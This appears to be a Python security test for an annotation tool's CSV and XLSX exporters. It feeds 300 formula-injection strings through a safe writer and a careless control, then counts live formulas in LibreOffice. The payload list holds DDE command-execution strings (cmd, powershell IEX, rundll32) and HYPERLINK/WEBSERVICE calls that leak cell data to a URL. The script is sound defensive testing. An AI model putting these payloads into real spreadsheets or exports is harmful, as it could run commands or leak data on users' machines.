"""300 texts that would be formulas, opened by LibreOffice: none is one in what we write.

    .venv/bin/python -m tests.faults.spreadsheet_formulas

Needs soffice (apt-get install libreoffice-calc). CSV is opened with formulas switched on. The
control writes the same texts without care.
"""

import csv
import io
import re
import shutil
import subprocess
import sys
import tempfile
from itertools import islice, product
from pathlib import Path

from openpyxl import Workbook

from annotations.exports.formats import WRITERS, write_rows
from annotations.exports.tables import Column, Type
from annotations.exports.writers import Format

COLUMNS = (Column("number", "n", "数", Type.NUMBER), Column("text", "t", "文"))
# Comma, double quotes, UTF-8, from the first line, "evaluate formulas" (the last).
CSV_FILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
STARTS = ("", " ", "\t", "\n", "\r\n", "\u3000", "\ufeff", "\u200b", "\u202e", "\x1f", "'", '"')
CORES = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"open")',
    '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=SUM(1;1)",
    "={1;2}",
    "=A1",
    "=-1",
    "|calc",
    "=1+1\n=2+2",
    '=1+1","=2+2',
    "=cmd|'/C powershell IEX(1)'!A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
)
PAYLOADS = list(islice((s + c for c, s in product(CORES, STARTS)), 300))


def rows() -> list[tuple]:
    return [(-1.5 - number, text) for number, text in enumerate(PAYLOADS)]


def careful(form: Format, path: Path) -> None:
    with path.open("wb") as stream:
        write_rows(rows(), [WRITERS[form](stream, COLUMNS)])


def careless(form: Format, path: Path) -> None:
    if form == Format.CSV:
        text = io.StringIO(newline="")
        csv.writer(text).writerows(rows())
        path.write_text(text.getvalue(), "utf-8", newline="")
        return
    book = Workbook()
    for number, text in rows():
        text = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
        book.active.append([number, text])
    book.save(path)


def formulas(path: Path, folder: Path) -> tuple[int, int]:
    """Live formulas, and negative numbers that are numbers, as LibreOffice reads the file."""
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile"]
    if path.suffix == ".csv":
        command.append(f"--infilter={CSV_FILTER}")
    command += ["--convert-to", "fods", "--outdir", str(folder), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    text = path.with_suffix(".fods").read_text("utf-8")
    numbers = re.findall(r'office:value="-\d', text)
    return len(re.findall(r'table:formula="', text)), len(numbers)


def main() -> int:
    if not shutil.which("soffice"):
        print("soffice is not installed: not measured.")
        return 2
    wrong = 0
    for form in (Format.CSV, Format.XLSX):
        for write in (careful, careless):
            with tempfile.TemporaryDirectory() as name:
                path = Path(name) / f"payloads.{form}"
                write(form, path)
                live, negative = formulas(path, Path(name))
            print(
                f"{form}, {write.__name__}: {live} live formulas in {len(PAYLOADS)} texts, "
                f"{negative} negative numbers intact"
            )
            if write is careful:
                wrong += live > 0 or negative < len(PAYLOADS)
            else:
                wrong += live == 0  # a control that finds nothing controls nothing
    return int(wrong > 0)


if __name__ == "__main__":
    sys.exit(main())
